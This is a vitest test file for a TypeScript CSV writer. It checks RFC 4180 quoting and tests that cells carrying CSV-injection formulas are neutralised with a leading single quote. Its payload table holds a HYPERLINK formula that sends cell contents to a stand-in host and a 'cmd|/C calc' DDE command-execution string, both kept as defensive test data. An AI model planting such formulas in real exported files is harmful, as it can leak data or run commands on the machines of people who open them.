import { describe, expect, it } from 'vitest'
import { parseCsv } from './csv.ts'
import { formatCsvCell, writeCsv } from './csv-write.ts'

describe('writeCsv', () => {
  it('quotes per RFC 4180 (delimiter, quote, CR, LF) and ends records with CRLF', () => {
    // RFC 4180, section 2, rules 1, 6 and 7
    expect(writeCsv([['a,b', 'say "hi"', 'two\nlines', 'plain'], [1, 2.5, null, true]])).toBe('"a,b","say ""hi""","two\nlines",plain\r\n1,2.5,,true\r\n')
  })

  // OWASP "CSV Injection": prefix cells that begin with = + - @ tab or CR with a single quote
  const payloads = [
    ['=HYPERLINK("http://x.example/?"&A1,"click")', `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['  =1+1', "'  =1+1"],
  ] as const
  it.each(payloads)('neutralizes the formula %j', (payload, written) => {
    expect(formatCsvCell(payload)).toBe(written)
  })

  it('leaves true numbers as numbers, negative ones too, and plain text alone', () => {
    expect(formatCsvCell(-12.5)).toBe('-12.5')
    expect(formatCsvCell(0)).toBe('0')
    expect(formatCsvCell(Number.NaN)).toBe('')
    expect(formatCsvCell('F01')).toBe('F01')
  })

  it('writes what the CSV reader reads back', () => {
    const rows = [['field', 'notes'], ['F01', 'a "quoted", multi\r\nline note'], ['=x', '']]
    expect(parseCsv(writeCsv(rows)).records).toEqual([['field', 'notes'], ['F01', 'a "quoted", multi\r\nline note'], ["'=x", '']])
  })
})
